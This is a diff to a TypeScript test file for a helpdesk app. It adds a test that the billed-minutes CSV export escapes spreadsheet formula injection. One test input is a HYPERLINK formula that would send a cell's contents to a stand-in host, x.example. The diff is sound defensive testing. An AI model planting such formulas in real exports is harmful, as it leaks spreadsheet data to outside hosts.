@@ -11,6 +11,7 @@ import {
   getTicket,
   listTickets,
   ticketSla,
+  type BilledMinutesResult,
   type TicketDoc,
 } from '@helpdesk/projections';
 import { SqliteReadStore } from '@helpdesk/read-store';
@@ -161,6 +162,15 @@ describe('read models fed with a realistic history', () => {
     expect(csv.endsWith('\r\n')).toBe(true);
     expect(parseCsv(csv)[2][13]).toBe(CSV_NASTY);
     expect(parseCsv(csv)).toHaveLength(3);
+  });
+
+  it('CSV text a spreadsheet would run as a formula opens as text; numbers stay numbers', () => {
+    const row = (description: string, chargeMinor: number | null = null) =>
+      ({ workedOn: '2026-03-02', at: '2026-03-02T15:00:00.000Z', customerId: 'acme', ticketId: 't-1', entryId: 'e-1', policyId: null, authorizationId: 'a-1', quoteId: 'q-1', engineerId: 'ana', kind: 'remote', minutes: 60, chargeMinor, currency: null, description }) as unknown as BilledMinutesResult['rows'][number];
+    const csv = billedMinutesCsv({ rows: [row('=HYPERLINK("http://x.example/?"&A1,"ver")'), row('+1+2'), row('-2+3', -500), row('@SUM(A1)'), row('\tpaso'), row('Revisión = correcta')] });
+    const fields = parseCsv(csv).slice(1).map((r) => r[13]);
+    expect(fields).toEqual([`'=HYPERLINK("http://x.example/?"&A1,"ver")`, "'+1+2", "'-2+3", "'@SUM(A1)", "'\tpaso", 'Revisión = correcta']);
+    expect(parseCsv(csv)[3][11]).toBe('-500');
   });
 
   it('case links: the policy deductions made for a ticket', async () => {
